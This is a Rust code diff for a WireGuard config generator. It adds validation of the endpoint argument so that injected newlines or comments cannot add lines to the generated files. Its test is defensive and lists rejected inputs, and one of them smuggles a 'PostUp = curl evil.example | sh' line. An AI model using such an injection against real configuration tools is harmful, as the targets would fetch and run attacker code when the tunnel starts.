@@ -8,6 +8,7 @@ use std::fmt::Write as _;
 use clap::ValueEnum;
 
 /// The reference's four usage patterns.
+// debug-ok: a choice among four patterns, no key.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
 pub enum Pattern {
     /// TailGuard is a client of a WireGuard server that routes everything;
@@ -46,9 +47,15 @@ impl Keys {
 }
 
 /// `(wg0.conf, peer.conf)` for `pattern`. `endpoint` is where the side
-/// that listens is reached (`host:port`; the port defaults to 51820).
-pub fn pair(pattern: Pattern, endpoint: &str, ours: &Keys, theirs: &Keys) -> (String, String) {
-    let endpoint = with_port(endpoint);
+/// that listens is reached (`host:port`; the port defaults to 51820); it
+/// must be one, so that nothing else can end up in the files.
+pub fn pair(
+    pattern: Pattern,
+    endpoint: &str,
+    ours: &Keys,
+    theirs: &Keys,
+) -> Result<(String, String), String> {
+    let endpoint = checked_endpoint(endpoint)?;
     // Who listens: the WireGuard server is TailGuard, except when TailGuard
     // is the client of a server that routes everything.
     let tailguard_listens = pattern != Pattern::ExitNode;
@@ -98,7 +105,20 @@ pub fn pair(pattern: Pattern, endpoint: &str, ours: &Keys, theirs: &Keys) -> (St
     let wg0 = side(ours_host, ours, tailguard_listens) + &peer(theirs, &to_theirs, ours_endpoint);
     let other =
         side(theirs_host, theirs, !tailguard_listens) + &peer(ours, &to_ours, theirs_endpoint);
-    (wg0, other)
+    Ok((wg0, other))
+}
+
+/// `--endpoint` as the files will say it: a host or address and a port
+/// that wg-quick (and our own parser) read back as exactly that.
+fn checked_endpoint(endpoint: &str) -> Result<String, String> {
+    let with_port = with_port(endpoint);
+    match crate::wgconf::parse_endpoint(&with_port) {
+        Ok(_) if !with_port.chars().any(|c| c.is_whitespace() || c == '#') => Ok(with_port),
+        _ => Err(format!(
+            "--endpoint \"{}\": expected a host name or address, optionally with :port",
+            crate::secrets::redact(endpoint).escape_debug()
+        )),
+    }
 }
 
 /// `host:port`, with WireGuard's usual port when none is given; a bare
@@ -135,7 +155,7 @@ mod tests {
     fn every_pattern_gives_two_files_our_parser_accepts_and_that_match() {
         for pattern in Pattern::value_variants() {
             let (ours, theirs) = (keys(1), keys(2));
-            let (wg0, peer) = pair(*pattern, "vpn.example.com", &ours, &theirs);
+            let (wg0, peer) = pair(*pattern, "vpn.example.com", &ours, &theirs).unwrap();
             let a = wgconf::parse(&wg0, Path::new("wg0.conf"))
                 .unwrap_or_else(|e| panic!("{pattern:?} wg0.conf: {e}\n{wg0}"));
             let b = wgconf::parse(&peer, Path::new("peer.conf"))
@@ -170,17 +190,17 @@ mod tests {
     #[test]
     fn the_patterns_route_what_the_reference_says() {
         let (ours, theirs) = (keys(1), keys(2));
-        let (wg0, _) = pair(Pattern::ExitNode, "10.0.0.1:4000", &ours, &theirs);
+        let (wg0, _) = pair(Pattern::ExitNode, "10.0.0.1:4000", &ours, &theirs).unwrap();
         assert!(wg0.contains("AllowedIPs = 0.0.0.0/0, ::/0"), "{wg0}");
         assert!(wg0.contains("Endpoint = 10.0.0.1:4000"), "{wg0}");
-        let (_, client) = pair(Pattern::Bridge, "h", &ours, &theirs);
+        let (_, client) = pair(Pattern::Bridge, "h", &ours, &theirs).unwrap();
         assert!(
             client.contains("100.64.0.0/10, fd7a:115c:a1e0::/48"),
             "{client}"
         );
-        let (_, client) = pair(Pattern::TailnetExit, "h", &ours, &theirs);
+        let (_, client) = pair(Pattern::TailnetExit, "h", &ours, &theirs).unwrap();
         assert!(client.contains("AllowedIPs = 0.0.0.0/0, ::/0"), "{client}");
-        let (wg0, client) = pair(Pattern::Server, "h", &ours, &theirs);
+        let (wg0, client) = pair(Pattern::Server, "h", &ours, &theirs).unwrap();
         assert!(
             client.contains("AllowedIPs = 10.66.0.1/32, fd66::1/128"),
             "{client}"
@@ -189,5 +209,40 @@ mod tests {
             wg0.contains("AllowedIPs = 10.66.0.2/32, fd66::2/128"),
             "{wg0}"
         );
+    }
+
+    /// A newline (or anything else that is not a host and port) must not
+    /// put lines of its own into the files.
+    #[test]
+    fn an_endpoint_that_is_not_a_host_and_port_is_refused() {
+        let (ours, theirs) = (keys(1), keys(2));
+        for bad in [
+            "vpn.example.com\nPostUp = curl evil.example | sh",
+            "vpn.example.com:51820\n[Peer]",
+            "vpn.example.com # comment",
+            "host name",
+            "vpn.example.com:0",
+            "vpn.example.com:99999",
+            "010.1.1.1",
+            "",
+        ] {
+            let e = pair(Pattern::Server, bad, &ours, &theirs).unwrap_err();
+            assert!(e.starts_with("--endpoint "), "{bad:?}: {e}");
+            assert!(
+                e.contains("expected a host name or address"),
+                "{bad:?}: {e}"
+            );
+        }
+        for good in [
+            "vpn.example.com",
+            "203.0.113.7:4500",
+            "fd00::1",
+            "[fd00::1]:1",
+        ] {
+            assert!(
+                pair(Pattern::Server, good, &ours, &theirs).is_ok(),
+                "{good}"
+            );
+        }
     }
 }
